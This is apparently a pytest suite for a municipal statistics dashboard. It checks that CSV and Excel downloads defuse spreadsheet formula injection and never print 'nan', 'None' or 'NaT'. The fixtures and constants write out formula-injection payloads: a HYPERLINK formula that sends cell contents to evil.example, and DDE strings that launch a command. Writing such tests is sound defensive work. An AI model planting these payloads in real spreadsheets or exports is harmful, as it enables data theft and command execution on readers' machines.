"""Downloads that cannot run anything in the spreadsheet that opens them, and say no `nan`.

A note or a sidecar value that begins with `=` (or `+`, `-`, `@`, a tab) is a formula
to Excel and LibreOffice: `=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")` sends
the sheet's cells away when clicked. Here such text is imported into a warehouse, and
the CSV and the Excel file are opened the way a reader's programs open them (csv,
openpyxl): in the Excel file it is a text cell, in the CSV it carries a leading `'`.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile

import openpyxl
import pytest

from dashboard import export
from dashboard.build import warehouse
from dashboard.charts import listing as charts
from dashboard.settings import Settings
from dashboard.startup import create_app

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")'
PIPE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
#: What a download must never say for an empty cell.
EMPTY_WORDS = re.compile(r"\b(nan|NaN|None|NaT)\b")


@pytest.fixture(scope="module")
def evil_client(tmp_path_factory):
    """An app on fixture data whose notes and sidecar hold formulas."""
    from tests.paths import FIXTURE_DATA

    data = tmp_path_factory.mktemp("evil") / "data"
    shutil.copytree(FIXTURE_DATA, data)
    csv_path = data / "reports.csv"
    lines = csv_path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    assert header[-1] == "note"
    notes = [f'"{ATTACK.replace(chr(34), chr(34) * 2)}"', f'"\t{PIPE}"', f'"{AT}"', "-3 %"]
    lines = [lines[0]] + [
        ",".join([*line.split(",")[:-1], notes[i % len(notes)]]) for i, line in enumerate(lines[1:])
    ]
    csv_path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    meta = data / "reports.meta.yml"
    text = meta.read_text(encoding="utf-8")
    text = re.sub(r"^title: .*$", "title: '=1+1'", text, flags=re.M)
    text = re.sub(r"^publication: .*$", "publication: '=HYPERLINK(\"http://x\")'", text, flags=re.M)
    meta.write_text(text, encoding="utf-8")
    (data / "diff.csv").write_text(
        "year,municipality,measure,value,note\n2020,baerum,ungdata_forskjell,-4,-4 prosentpoeng\n",
        encoding="utf-8",
    )
    (data / "diff.meta.yml").write_text(
        re.sub(r"^unit: .*$", "unit: prosentpoeng", text, flags=re.M), encoding="utf-8"
    )
    report = warehouse.build(data, data / "warehouse.duckdb")
    app = create_app(Settings(data_dir=data, auto_build=False))
    return app.server.test_client(), report


def test_the_import_flags_formula_text_without_refusing_it(evil_client):
    _client, report = evil_client
    flagged = [line for line in report.info if "formula" in line]
    assert any("reports.csv" in line and "column 'note'" in line for line in flagged), report.info
    assert any("reports.meta.yml" in line and "title" in line for line in flagged), report.info


def test_a_formula_note_is_a_text_cell_in_excel(evil_client):
    client, _report = evil_client
    response = client.get("/last-ned/geografi-anmeldelser.xlsx?kommune=baerum")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    found = {}
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.lstrip().startswith(("=", "+", "@")):
                    found[cell.value] = cell.data_type
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
    assert ATTACK in found and AT in found  # the text itself, unchanged, as text
    assert any(v.startswith("=HYPERLINK") and "http://x" in v for v in found)  # Kilde sheet
    # Numbers stay numbers.
    numbers = [c.value for c in book["Tall"]["A"][1:]]
    assert numbers and all(isinstance(v, int) for v in numbers)
    raw = zipfile.ZipFile(io.BytesIO(response.data))
    for name in raw.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in raw.read(name), name  # no formula anywhere in the file


def test_a_formula_note_is_neutralised_in_csv(evil_client):
    client, _report = evil_client
    for url in ("/last-ned/geografi-anmeldelser.csv?kommune=baerum", "/last-ned/alle-data.csv"):
        rows = list(csv.DictReader(io.StringIO(client.get(url).data.decode("utf-8-sig"))))
        notes = {r["note"] for r in rows}
        assert "'" + ATTACK in notes and "'" + PIPE in notes and "'" + AT in notes, url
        assert "'-3 %" in notes, url
        for row in rows:
            for column, value in row.items():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (url, column, value)
                if value.startswith("-"):
                    assert value == "-" or column in ("value", "anmeldelser"), (column, value)


def test_negative_numbers_stay_numbers(evil_client):
    """A difference may be negative: -4 is a number, its note "-4 prosentpoeng" is text."""
    client, _report = evil_client
    data = client.get("/last-ned/alle-data.csv").data.decode("utf-8-sig")
    rows = [r for r in csv.DictReader(io.StringIO(data)) if r["source_id"] == "diff"]
    assert [(r["value"], r["note"]) for r in rows] == [("-4", "'-4 prosentpoeng")]


def test_safe_cell_follows_owasp():
    for bad in ("=1+1", "+1", "-1+cmd|x", "@SUM(A1)", "\t=1", "\r=1", "＝1"):
        assert export.safe_cell(bad) == "'" + bad
    for fine in ("Bærum", "1 234", "", "-", "2019-2020", "'=already quoted"):
        assert export.safe_cell(fine) == fine


def _downloads(client):
    """Every download of the real data a visitor can ask for (no images)."""
    for chart_id in charts.REGISTRY:
        for kommune in ("baerum", "asker", "oslo"):
            for lang in ("nb", "en"):
                for fmt in ("csv", "xlsx"):
                    url = f"/last-ned/{chart_id}.{fmt}?kommune={kommune}&lang={lang}"
                    yield url, client.get(url)
    for url in ("/last-ned/alle-data.csv", "/last-ned/alle-data.zip"):
        for lang in ("", "?lang=en"):
            yield url + lang, client.get(url + lang)


def _texts(url: str, data: bytes):
    if url.split("?")[0].endswith(".xlsx"):
        book = openpyxl.load_workbook(io.BytesIO(data))
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is not None:
                        yield f"{sheet.title}!{cell.coordinate}", str(cell.value)
    elif url.split("?")[0].endswith(".zip"):
        archive = zipfile.ZipFile(io.BytesIO(data))
        for name in archive.namelist():
            yield name, archive.read(name).decode("utf-8")
    else:
        yield "csv", data.decode("utf-8-sig")


def test_no_download_of_the_real_data_says_nan_none_or_nat(client):
    seen = 0
    for url, response in _downloads(client):
        assert response.status_code == 200, url
        for where, value in _texts(url, response.data):
            match = EMPTY_WORDS.search(value)
            assert match is None, (url, where, value[max(0, match.start() - 60) : match.end() + 20])
        seen += 1
    assert seen == len(charts.REGISTRY) * 12 + 4
